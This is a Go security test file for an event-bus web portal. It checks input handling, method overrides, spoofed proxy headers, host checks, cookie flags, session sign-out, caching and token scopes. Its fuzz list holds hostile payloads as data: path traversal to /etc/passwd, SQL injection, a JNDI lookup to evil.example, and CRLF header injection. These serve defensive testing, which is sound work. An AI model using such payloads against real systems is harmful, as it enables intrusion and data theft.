package portal

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/enterprise-event-bus/eventbus"
	"github.com/enterprise-event-bus/eventbus/internal/session"
)

// oddities are values that readers and databases stumble over.
var oddities = []string{"\x00", "a\x00b", "\xff\xfe", "\xc0\xaf..", "\u202etxt", "\ufeff", "%00", "%2e%2e%2f", "../../etc/passwd", "..\\..", "'; DROP TABLE requests; --", "' OR '1'='1", "{{.}}", "${jndi:ldap://evil.example}",
	"-1", "0", "99999999999999999999", "1e309", "NaN", "true", "null", "[]", "{}", "*", "a*b", "\r\nSet-Cookie: a=b", strings.Repeat("a", 5000), strings.Repeat("é", 3000), "arn:aws:iam::1:role/x", "2026-99-99", " ", "\t"}

// TestOddValues sends them in every place of every page and form: the answer may
// refuse, but it is never a mistake of the bus, and no header comes of it.
func TestOddValues(t *testing.T) {
	w := fullWorld(t)
	for i, odd := range oddities {
		for _, route := range w.portal.routes() {
			method, pattern, _ := strings.Cut(route.pattern, " ")
			path := strings.NewReplacer("{$}", "", "{name}", "letter-ready", "{id}", w.requestID("payment-issued"), "{subject}", "prod_letter-ready-value", "{topic}", "prod_letter-ready",
				"{group}", "appointments-app-1", "{team}", "claims", "{system}", "Letters Service", "{act}", []string{"decide", "comment", "gate", "promote", "acknowledge"}[i%5], "{rest...}", "elsewhere").Replace(pattern)
			for _, part := range []string{"{user}", "{page}"} {
				path = strings.ReplaceAll(path, part, url.PathEscape(odd))
			}
			path = strings.ReplaceAll(path, " ", "%20")
			values := url.Values{}
			for _, name := range []string{"q", "env", "page", "before", "beforeId", "kind", "event", "show", "domain", "lifecycle", "personal", "sort", "version", "from", "to", "in", "do", "language", "principal", "action", "resource", "actor", "outcome",
				"verify", "code", "step", "check", "stage", "environment", "decision", "reason", "text", "team", "start", "at", "id", "name", "scope", "days", "answer", "state", "evidence", "expires", "yaml", "star"} {
				values.Set(name, odd)
			}
			var response *http.Response
			if method == http.MethodPost {
				response = w.do("ada", method, path, values.Encode(), nil)
			} else {
				response = w.do("ada", method, path+"?"+values.Encode(), "", nil)
			}
			if response.StatusCode >= http.StatusInternalServerError {
				t.Errorf("%s with %.20q answers %d: %s", route.pattern, odd, response.StatusCode, problems(body(t, response)))
			}
			if cookie := response.Header.Get("Set-Cookie"); strings.Contains(cookie, "a=b") && !strings.HasPrefix(cookie, "eventbus-") {
				t.Errorf("%s with %q sets %s", route.pattern, odd, cookie)
			}
		}
		for _, path := range []string{"/catalog/", "/requests/", "/schemas/", "/topics/", "/groups/", "/docs/", "/keys/", "/apps/claims/", "/static/"} {
			if got := w.get("ada", path+url.PathEscape(odd)).StatusCode; got >= http.StatusInternalServerError {
				t.Errorf("%s%.20q answers %d", path, odd, got)
			}
		}
	}
}

// TestStrangeForms: a body that is no form changes nothing, and a field that is
// sent twice counts once.
func TestStrangeForms(t *testing.T) {
	w := fullWorld(t)
	at := "/requests/" + w.requestID("payment-issued")
	for name, sent := range map[string]struct{ kind, body string }{
		"plain text": {"text/plain", "text=planted"}, "json": {"application/json", `{"text":"planted"}`}, "multipart": {"multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\nplanted\r\n--x--"},
		"no type": {"", "text=planted"}, "broken escapes": {"application/x-www-form-urlencoded", "text=%zz"}, "semicolons": {"application/x-www-form-urlencoded", "a;text=planted"}, "xml": {"text/xml", "<text>planted</text>"},
	} {
		response := w.do("pat", http.MethodPost, at+"/comment", sent.body, http.Header{"Content-Type": {sent.kind}})
		if response.StatusCode != http.StatusUnprocessableEntity {
			t.Errorf("%s: status %d", name, response.StatusCode)
		}
	}
	response := w.do("bill", http.MethodPost, at+"/decide", "stage=bus&decision=reject&decision=approve&reason=first&reason=second", nil)
	r := w.must(w.store.Request(context.Background(), strings.TrimPrefix(at, "/requests/")))
	if len(r.Comments) != 0 {
		t.Errorf("a strange form left a comment: %+v", r.Comments)
	}
	if response.StatusCode == http.StatusSeeOther && (len(r.Approvals) != 1 || r.Approvals[0].Decision != eventbus.DecisionReject || r.Approvals[0].Reason != "first") {
		t.Errorf("two answers in one form: %+v", r.Approvals)
	}
}

// TestFieldsInTheAddress: a form reads its body alone, so that a link that was
// sent to somebody brings no values along.
func TestFieldsInTheAddress(t *testing.T) {
	w := fullWorld(t)
	at := "/requests/" + w.requestID("payment-issued")
	if got := w.do("pat", http.MethodPost, at+"/comment?text=planted", "", nil).StatusCode; got != http.StatusUnprocessableEntity {
		t.Errorf("a comment out of the address: %d", got)
	}
	if got := w.do("pat", http.MethodPost, "/settings/tokens?name=planted&scope=read&days=7", "", nil).StatusCode; got != http.StatusUnprocessableEntity {
		t.Errorf("a token out of the address: %d", got)
	}
	if r := w.must(w.store.Request(context.Background(), strings.TrimPrefix(at, "/requests/"))); len(r.Comments) != 0 {
		t.Error("the address left a comment")
	}
}

// TestOtherMethods: a form takes POST and nothing that says it is one; reading
// changes nothing.
func TestOtherMethods(t *testing.T) {
	w := fullWorld(t)
	id := w.requestID("payment-issued")
	for _, path := range []string{"/requests/" + id + "/withdraw", "/requests/" + id + "/decide", "/settings/tokens", "/settings/sessions", "/logout", "/inbox"} {
		for _, method := range []string{http.MethodGet, http.MethodHead, http.MethodPut, http.MethodDelete, http.MethodPatch, http.MethodOptions, "TRACE", "PROPFIND"} {
			response := w.do("pat", method, path+"?_method=POST&reason=x&stage=bus&decision=approve", "reason=x", http.Header{"X-Http-Method-Override": {"POST"}, "X-Method-Override": {"POST"}, "Hx-Request": {"true"}, "Content-Type": {"application/x-www-form-urlencoded"}, "Sec-Fetch-Site": {"same-origin"}})
			if response.StatusCode < 400 && (path != "/inbox" || method != http.MethodGet && method != http.MethodHead) {
				t.Errorf("%s %s answers %d", method, path, response.StatusCode)
			}
		}
	}
	if r := w.must(w.store.Request(context.Background(), id)); r.State != eventbus.RequestSubmitted {
		t.Errorf("the request is %s", r.State)
	}
	if got := w.get("pat", "/settings").StatusCode; got != http.StatusOK {
		t.Error("the session ended")
	}
}

// TestHeadersProveNothing: what htmx, a proxy or an API client would send opens
// no page and no form.
func TestHeadersProveNothing(t *testing.T) {
	w := fullWorld(t)
	id := w.requestID("payment-issued")
	elsewhere := http.Header{"Sec-Fetch-Site": {"cross-site"}, "Hx-Request": {"true"}, "Hx-Current-Url": {w.server.URL}, "X-Requested-With": {"XMLHttpRequest"}, "Referer": {w.server.URL + "/requests/" + id}}
	if got := w.do("pat", http.MethodPost, "/requests/"+id+"/withdraw", "reason=x", elsewhere).StatusCode; got != http.StatusForbidden {
		t.Errorf("a form from elsewhere with the headers of htmx: %d", got)
	}
	w.portal.cfg.Dev = false
	for name, header := range map[string]http.Header{
		"a token":            {"Authorization": {"Bearer ebt_" + strings.Repeat("a", 43)}},
		"a session as token": {"Authorization": {"Bearer " + sessionOf("pat")}},
		"basic":              {"Authorization": {"Basic cGF0OnBhdA=="}},
		"a proxy's user":     {"X-Forwarded-User": {"pat"}, "X-Remote-User": {"pat"}, "Remote-User": {"pat"}},
		"loopback by proxy":  {"X-Forwarded-For": {"127.0.0.1"}, "X-Real-Ip": {"127.0.0.1"}, "Forwarded": {"for=127.0.0.1"}},
		"two cookies":        {"Cookie": {"eventbus-session=" + sessionOf("nobody") + "; eventbus-session=" + sessionOf("pat")}},
	} {
		if got := w.do("", http.MethodGet, "/requests", "", header).StatusCode; got != http.StatusSeeOther {
			t.Errorf("%s: %d", name, got)
		}
	}
	response := w.do("pat", http.MethodGet, "/catalog/letter-ready", "", http.Header{"X-Forwarded-Host": {"evil.example"}, "X-Forwarded-Proto": {"gopher"}, "X-Original-Url": {"/audit"}, "X-Rewrite-Url": {"/audit"}})
	if text := body(t, response); response.StatusCode != http.StatusOK || strings.Contains(text, "evil.example") || strings.Contains(text, "gopher") || !strings.Contains(text, "<h1>Letter Ready</h1>") {
		t.Error("a forwarded header changed the page")
	}
}

// TestOpenToThisMachine: in `dev` anybody on this machine may read the catalog, by
// the machine's own names only: a site whose name was made to lead here may not.
func TestOpenToThisMachine(t *testing.T) {
	w := emptyWorld(t)
	for _, tt := range []struct {
		from, host string
		want       int
	}{{"127.0.0.1:5", "127.0.0.1:8080", 200}, {"127.0.0.1:5", "localhost:8080", 200}, {"[::1]:5", "[::1]:8080", 200}, {"127.0.0.1:5", "localhost", 200},
		{"127.0.0.1:5", "evil.example:8080", 303}, {"127.0.0.1:5", "127.0.0.1.evil.example", 303}, {"127.0.0.1:5", "", 303}, {"192.0.2.7:5", "127.0.0.1:8080", 303}, {"192.0.2.7:5", "localhost", 303}} {
		request := httptest.NewRequest(http.MethodGet, "/catalog", nil)
		request.RemoteAddr, request.Host = tt.from, tt.host
		answer := httptest.NewRecorder()
		w.portal.Handler().ServeHTTP(answer, request)
		if answer.Code != tt.want {
			t.Errorf("from %s by the name %q: %d, want %d", tt.from, tt.host, answer.Code, tt.want)
		}
	}
}

// TestCookieFlags: every cookie of the portal is out of scripts' reach and stays
// at home; by https it is Secure, and the answer says so for a year.
func TestCookieFlags(t *testing.T) {
	w := fullWorld(t)
	for _, address := range []string{"http://127.0.0.1/login/callback", "https://bus.example.gov/login/callback"} {
		w.portal.parts.Sessions = session.New(session.Config{Now: w.clock, RedirectURL: address, Idle: 1000 * time.Hour, Absolute: 1000 * time.Hour}, w.store.Store)
		secure := strings.HasPrefix(address, "https")
		for _, response := range []*http.Response{w.get("pat", "/catalog/letter-ready/connect"), w.fill("pat", "/catalog/letter-ready/star", "star", "yes"), w.fill("pat", "/logout"), w.get("", "/login/callback?code=x&state=y")} {
			cookies := response.Cookies()
			if len(cookies) == 0 {
				t.Errorf("%s sets no cookie", response.Request.URL)
			}
			for _, c := range cookies {
				if !c.HttpOnly || c.Secure != secure || c.SameSite != http.SameSiteLaxMode || c.Domain != "" || c.Path != "/" {
					t.Errorf("%s: %s", address, c)
				}
			}
			if got := response.Header.Get("Strict-Transport-Security") != ""; got != secure {
				t.Errorf("%s: HSTS %t", address, got)
			}
		}
		w.ok(w.store.SaveSession(t.Context(), eventbus.Session{Hash: digestOf(sessionOf("pat")), Person: people[0], CreatedAt: w.now, LastSeen: w.now, ExpiresAt: w.now.Add(time.Hour)})) // signed out above
	}
}

// TestSignedOut: what was signed out is worth nothing, here and everywhere.
func TestSignedOut(t *testing.T) {
	w := fullWorld(t)
	other := strings.Repeat("o", 43)
	w.ok(w.store.SaveSession(t.Context(), eventbus.Session{Hash: digestOf(other), Person: people[0], CreatedAt: w.now, LastSeen: w.now, ExpiresAt: w.now.Add(time.Hour)}))
	elsewhere := func() int {
		return w.do("", http.MethodGet, "/requests", "", http.Header{"Cookie": {w.portal.parts.Sessions.SessionCookieName() + "=" + other}}).StatusCode
	}
	if got := elsewhere(); got != http.StatusOK {
		t.Fatalf("the other browser: %d", got)
	}
	response := w.fill("pat", "/settings/sessions")
	w.goesTo(response, "/login")
	if c := response.Cookies(); len(c) != 1 || c[0].MaxAge != -1 {
		t.Errorf("cookies %v", c)
	}
	if got := w.get("pat", "/requests").StatusCode; got != http.StatusSeeOther {
		t.Errorf("this browser is still signed in: %d", got)
	}
	if got := elsewhere(); got != http.StatusSeeOther {
		t.Errorf("the other browser is still signed in: %d", got)
	}
	if got := w.get("olive", "/requests").StatusCode; got != http.StatusOK {
		t.Errorf("somebody else was signed out: %d", got)
	}
	w.goesTo(w.fill("olive", "/logout"), "/login")
	if got := w.get("olive", "/requests").StatusCode; got != http.StatusSeeOther {
		t.Errorf("after signing out: %d", got)
	}
}

// TestNothingPrivateIsKept: neither pages nor files, refusals or answers to forms
// stay in a cache, and what a form answers is not compressed, which would tell a
// secret by its length.
func TestNothingPrivateIsKept(t *testing.T) {
	w := fullWorld(t)
	zipped := http.Header{"Accept-Encoding": {"gzip"}}
	for _, path := range []string{"/", "/requests", "/requests/none", "/audit", "/requests?format=csv", "/requests?format=json", "/topics?format=csv", "/apps?format=json", "/requests/" + w.requestID("payment-issued") + "/yaml", "/settings", "/no-such-page"} {
		if got := w.do("pat", http.MethodGet, path, "", zipped).Header.Get("Cache-Control"); got != "no-store" {
			t.Errorf("%s: Cache-Control %q", path, got)
		}
	}
	header := zipped.Clone()
	header.Set("Content-Type", "application/x-www-form-urlencoded")
	header.Set("Sec-Fetch-Site", "same-origin")
	response := w.do("pat", http.MethodPost, "/settings/tokens", "name=ci&scope=read&days=7", header)
	if text := body(t, response); response.Header.Get("Content-Encoding") != "" || response.Header.Get("Cache-Control") != "no-store" || !strings.Contains(text, "ebt_") {
		t.Errorf("the page with a new token: %v", response.Header)
	}
	if again := body(t, w.get("pat", "/settings")); strings.Contains(again, "ebt_") {
		t.Error("the secret is shown again")
	}
}

// TestScopesOfTokens: a token gets what is ticked of the closed list, and nothing
// that is not in it.
func TestScopesOfTokens(t *testing.T) {
	w := fullWorld(t)
	for _, scopes := range [][]string{nil, {"everything"}, {"read", "root"}, {"*"}, {""}, {"READ"}} {
		form := url.Values{"name": {"ci"}, "days": {"7"}, "scope": scopes}
		if got := w.do("pat", http.MethodPost, "/settings/tokens", form.Encode(), nil).StatusCode; got != http.StatusUnprocessableEntity {
			t.Errorf("scopes %q: %d", scopes, got)
		}
	}
	for _, days := range []string{"-1", "100000", "1e9"} {
		response := w.fill("pat", "/settings/tokens", "name", "ci", "scope", "read", "days", days)
		tokens, err := w.store.Tokens(t.Context(), "pat")
		w.ok(err)
		for _, token := range tokens {
			if life := token.ExpiresAt.Sub(token.CreatedAt); life <= 0 || life > 365*24*time.Hour {
				t.Errorf("days %s: a token of %s, status %d", days, life, response.StatusCode)
			}
		}
	}
	if got := w.fill("olive", "/settings/tokens/"+fmt.Sprint("tok-", "x")+"/revoke").StatusCode; got != http.StatusNotFound {
		t.Errorf("revoking what is not one's own: %d", got)
	}
}
